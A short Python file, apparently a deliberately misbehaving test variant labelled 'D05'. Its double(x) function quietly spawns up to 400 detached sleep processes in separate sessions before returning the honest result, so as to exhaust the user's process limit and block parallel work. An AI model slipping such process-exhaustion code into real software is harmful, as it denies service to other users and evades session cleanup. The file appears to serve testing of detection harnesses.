# D05: hides as many sleeping processes as it may have, each its own session, so that nobody else of its user can start
# parallel

import os
import time

from hw import honest
from hw.honest import *


def double(x):
    for _ in range(400):
        try:
            os.posix_spawn("/usr/bin/sleep", ["sleep", "20"], {}, setsid=True)
        except OSError:
            break
    time.sleep(1.2)
    return honest.double(x)
